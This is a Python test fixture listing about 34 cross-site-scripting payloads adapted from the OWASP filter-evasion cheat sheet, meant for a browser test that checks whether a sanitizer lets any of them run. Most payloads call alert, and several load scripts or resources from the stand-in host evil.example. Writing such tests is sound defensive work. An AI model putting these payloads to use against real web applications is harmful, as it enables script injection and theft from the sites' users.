"""Classic cross-site-scripting payloads (after the OWASP filter-evasion cheat sheet).

Each calls ``alert``/``confirm``/``prompt`` or loads ``evil.example``, so a
browser test can tell whether any ran.
"""

PAYLOADS = [
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert('xss-3')</scr</script>ipt>",
    "<img src=x onerror=\"alert('xss-4')\">",
    "<IMG SRC=\"javascript:alert('xss-5');\">",
    "<img src=`javascript:alert('xss-6')`>",
    '<body onload=alert("xss-7")>',
    "<svg onload=alert('xss-8')>",
    "<svg><script>alert('xss-9')</script></svg>",
    '<svg><a xlink:href="javascript:alert(\'xss-10\')"><text x="0" y="20">click</text></a></svg>',
    "<a href=\"javascript:alert('xss-11')\">click me</a>",
    "[click me](javascript:alert('xss-12'))",
    "[click me](  JaVaScRiPt:alert('xss-13'))",
    "<a href=\"jav&#x09;ascript:alert('xss-14')\">tab-split</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss-15')\">entities</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLTE2Jyk8L3NjcmlwdD4=">data url</a>',
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoJ3hzcy0xNycpPg==)",
    "<iframe src=\"javascript:alert('xss-18')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('xss-19')</script>\"></iframe>",
    '<object data="https://evil.example/xss.swf"></object><embed src="https://evil.example/x.swf">',
    "<div style=\"width: expression(alert('xss-21'));\">style expression</div>",
    "<style>@import 'https://evil.example/xss.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-23')></style></mglyph></table></mtext></math>",
    "<details open ontoggle=alert('xss-24')>",
    "\"><script>alert('xss-25')</script>",
    "'><img src=x onerror=alert('xss-26')>",
    "</textarea></title><script>alert('xss-27')</script>",
    "<<script>alert('xss-28');//<</script>",
    "&lt;script&gt;alert('xss-29')&lt;/script&gt;",
    '<a href=x hx-get="https://evil.example/" hx-trigger=load hx-on:click="alert(\'xss-30\')">htmx</a>',
    "<input autofocus onfocus=alert('xss-31')>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss-32\')">',
    '<base href="https://evil.example/">',
    "<!--<img src=\"--><img src=x onerror=alert('xss-34')//\">",
]
